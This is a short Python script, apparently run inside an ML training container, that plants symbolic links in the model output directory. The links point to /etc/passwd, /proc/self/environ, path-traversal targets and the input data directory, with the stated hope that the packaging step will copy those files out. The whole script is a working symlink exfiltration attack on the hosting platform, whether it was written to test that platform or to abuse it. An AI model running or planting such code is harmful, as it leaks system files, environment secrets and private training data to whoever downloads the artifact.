"""Leaves symbolic links to the host's files and to the data, in the hope that the files are packed."""

import os

folder = os.environ["SM_MODEL_DIR"]
for number, path in enumerate(("/etc/passwd", "ACTUAL", "../../ACTUAL", "/proc/self/environ", "../input/data")):
    os.symlink(path, folder + f"/link{number}")
